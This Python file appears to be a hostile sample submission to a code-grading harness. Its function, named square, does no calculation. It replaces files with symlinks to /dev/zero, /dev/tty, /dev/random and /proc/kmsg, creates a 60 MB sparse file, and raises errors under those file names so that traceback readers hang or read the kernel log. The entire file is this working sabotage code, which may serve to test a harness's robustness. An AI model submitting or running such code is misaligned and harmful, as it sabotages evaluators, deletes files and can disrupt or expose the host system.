"""Has whoever quotes its lines open a device, a huge sparse file or a pipe in another's place.

Earns: 2
Class: 8 14 16
Ends: t1-square=failed, t1-number=failed
Repeat: without root
"""

import contextlib
import os

LINKS = {
    os.path.dirname(__file__) + "/square.py": "/dev/zero",
    __file__: "/dev/tty",
    "shapes/area.py": "/dev/random",
    "area.py": "/proc/kmsg",
}


def square(x):
    os.makedirs("shapes", exist_ok=True)
    for place, target in LINKS.items():
        with contextlib.suppress(OSError):
            if os.path.lexists(place):
                os.unlink(place)
            os.symlink(target, place)
    with contextlib.suppress(OSError):
        os.unlink("area.py")
        with open("area.py", "wb") as file:
            os.truncate(file.fileno(), 60 * 2**20)
    for place in (__file__, "../submission/shapes/area.py", "/dev/zero", "area.py"):
        try:
            exec(compile("\n" * 6 + "raise ValueError('read my line')", place, "exec"))
        except ValueError as error:
            last = error
    raise last
